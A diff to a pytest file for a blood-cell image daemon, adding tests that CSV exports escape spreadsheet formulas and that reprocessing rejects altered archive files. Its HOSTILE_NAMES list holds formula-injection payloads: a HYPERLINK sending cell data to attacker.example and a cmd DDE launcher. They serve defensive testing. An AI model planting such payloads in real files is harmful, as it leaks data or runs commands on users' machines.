@@ -8,11 +8,15 @@ import json
 import pytest
 
 from stainbridge.daemon import cli
+from stainbridge.daemon.intake.reading import sha256_file
 from stainbridge.daemon.schema import upgrade_database
 from stainbridge.daemon.store import Image, ImageStatus, Prediction, make_engine, make_sessionmaker, utcnow
 from stainbridge.daemon.versions.loading import load_models
 from stainbridge.models.inference import resolve_geometry
 from tests.daemon_helpers import build_tiny_models, query, write_cell
+
+HOSTILE_NAMES = ['=HYPERLINK("http://attacker.example/?"&A1,"open").png', "+cmd|' /C calc'!A0.png", "@SUM(1+1).png",
+                 "-2+3.png", "\tname.png", "\rname.png"]
 
 
 @pytest.fixture
@@ -33,7 +37,7 @@ def world(tmp_path, monkeypatch, restore_logging):
     with sessions.begin() as s:
         for i, confidence in enumerate((0.3, 0.5, 0.9)):
             path = write_cell(tmp_path / "archive" / f"{i}.png", seed=i)
-            image = Image(sha256=f"{i}" * 64, source_name=path.name, site="s", status=ImageStatus.done,
+            image = Image(sha256=sha256_file(path), source_name=path.name, site="s", status=ImageStatus.done,
                           archive_path=str(path), received_at=utcnow())
             s.add(image)
             s.flush()
@@ -41,7 +45,7 @@ def world(tmp_path, monkeypatch, restore_logging):
                              standardizer_version_id=models.standardizer_version_id,
                              classifier_version_id=models.classifier_version_id, latency_ms=1.0))
         path = write_cell(tmp_path / "quarantine" / "f.png", seed=9)
-        s.add(Image(sha256="f" * 64, source_name="f.png", site="s", status=ImageStatus.failed, archive_path=str(path),
+        s.add(Image(sha256=sha256_file(path), source_name="f.png", site="s", status=ImageStatus.failed, archive_path=str(path),
                     error="inference: the models failed on this image", received_at=utcnow()))
     yield url, tmp_path, models
     engine.dispose()
@@ -51,7 +55,7 @@ def test_review_export_lists_the_least_confident_unreviewed_images(world, tmp_pa
     """`review export` writes images below [retraining] review_below, least confident first, with an empty label."""
     out = tmp_path / "queue.csv"
     assert cli.main(["review", "export", "--out", str(out)]) == 0
-    rows = list(csv.DictReader(out.open()))
+    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
     assert [(r["image"], r["confidence"], r["label"]) for r in rows] == [("1", "0.3", ""), ("2", "0.5", "")]
 
 
@@ -65,12 +69,14 @@ def test_review_import_is_all_or_nothing(world, tmp_path, capsys) -> None:
     assert "unknown image '77'" in err and "unknown label 'megakaryocyte'" in err and "nothing imported" in err
     assert query(url, "SELECT count(*) FROM reviews") == [(0,)]
     good = tmp_path / "good.csv"
-    good.write_text(f"image,label,reviewer,time\n1,lymphocyte,dr a,2026-12-01T09:30\n{'2' * 64},monocyte,dr b,\n3,,,\n")
+    third = query(url, "SELECT sha256 FROM images WHERE id = 3")[0][0]
+    good.write_text(f"image,label,reviewer,time\n1,lymphocyte,dr a,2026-12-01T09:30\n{third},monocyte,dr b,\n3,,,\n")
     assert cli.main(["review", "import", str(good)]) == 0
     assert query(url, "SELECT image_id, reviewed_label, reviewer FROM results WHERE reviewed_label IS NOT NULL "
                       "ORDER BY image_id") == [(1, "lymphocyte", "dr a"), (3, "monocyte", "dr b")]
 
 
+@pytest.mark.slow
 def test_reprocess_adds_rows_and_keeps_the_old_ones(world, capsys) -> None:
     """`reprocess` adds a prediction per archived image; `--status failed` retries transient failures, which become done."""
     url, _, models = world
@@ -88,6 +94,65 @@ def test_reprocess_adds_rows_and_keeps_the_old_ones(world, capsys) -> None:
     assert query(url, "SELECT DISTINCT tta FROM results WHERE status = 'done'") == [(1,)]
     assert cli.main(["reprocess", "--status", "failed", "--json"]) == 0
     assert json.loads(capsys.readouterr().out)["classified"] == 1
-    assert query(url, "SELECT status, error FROM images WHERE sha256 = :s", s="f" * 64) == [("done", None)]
+    assert query(url, "SELECT status, error FROM images WHERE source_name = 'f.png'") == [("done", None)]
     assert cli.main(["reprocess", "--since", "2999-01-01", "--json"]) == 0
     assert json.loads(capsys.readouterr().out)["selected"] == 0
+
+
+def _rename(url: str, names: dict[int, str]) -> None:
+    engine = make_engine(url)
+    try:
+        with make_sessionmaker(engine).begin() as session:
+            for image_id, name in names.items():
+                session.get(Image, image_id).source_name = name
+    finally:
+        engine.dispose()
+
+
+def test_review_export_opens_safely_in_a_spreadsheet_and_imports_back(world, tmp_path) -> None:
+    """File names that would start a formula (=, +, -, @, tab, CR) are written with a leading quote, the file
+    starts with a UTF-8 byte-order mark (Excel then reads the names right), and the filled-in file imports."""
+    url, _, _ = world
+    _rename(url, {1: HOSTILE_NAMES[0], 2: "célula-@.png"})
+    out = tmp_path / "queue.csv"
+    assert cli.main(["review", "export", "--out", str(out)]) == 0
+    raw = out.read_bytes()
+    assert raw.startswith("\ufeff".encode()) and "célula-@.png".encode() in raw
+    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
+    assert [r["source_name"] for r in rows] == ["'" + HOSTILE_NAMES[0], "célula-@.png"]
+    for row in rows:
+        row["label"], row["reviewer"] = "lymphocyte", "dr a"
+    with out.open("w", encoding="utf-8-sig", newline="") as handle:  # as Excel saves it back
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    assert cli.main(["review", "import", str(out)]) == 0
+    assert query(url, "SELECT count(*) FROM reviews") == [(2,)]
+
+
+def test_export_csv_neutralizes_formulas_and_json_keeps_the_names(world, tmp_path) -> None:
+    """`export --format csv`: every text cell that a spreadsheet would run as a formula starts with a quote
+    (numbers are left alone); `--format json` carries the names unchanged."""
+    url, _, _ = world
+    _rename(url, {1: HOSTILE_NAMES[0], 2: HOSTILE_NAMES[1], 3: HOSTILE_NAMES[2], 4: HOSTILE_NAMES[3]})
+    out = tmp_path / "export.csv"
+    assert cli.main(["export", "--format", "csv", "--out", str(out)]) == 0
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    assert [r["source_name"] for r in rows] == ["'" + name for name in HOSTILE_NAMES[:4]]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert [r["confidence"] for r in rows[:3]] == ["0.3", "0.5", "0.9"]
+    assert cli.main(["export", "--format", "json", "--out", str(out.with_suffix(".json"))]) == 0
+    assert [r["source_name"] for r in json.loads(out.with_suffix(".json").read_text())] == HOSTILE_NAMES[:4]
+
+
+def test_reprocess_refuses_a_filed_file_whose_bytes_changed(world, capsys) -> None:
+    """An archived file changed or replaced after it was filed is not classified under its row (sha256 checked):
+    it is counted as changed_since_filed, and the others are reprocessed."""
+    url, tmp_path, _ = world
+    write_cell(tmp_path / "archive" / "1.png", seed=77)  # other bytes under the filed name
+    assert cli.main(["reprocess", "--json"]) == 1
+    summary = json.loads(capsys.readouterr().out)
+    assert (summary["selected"], summary["classified"], summary["unreadable"]) == (3, 2, {"changed_since_filed": 1})
+    assert query(url, "SELECT image_id, count(*) FROM predictions GROUP BY image_id ORDER BY image_id") == [
+        (1, 2), (2, 1), (3, 2)]
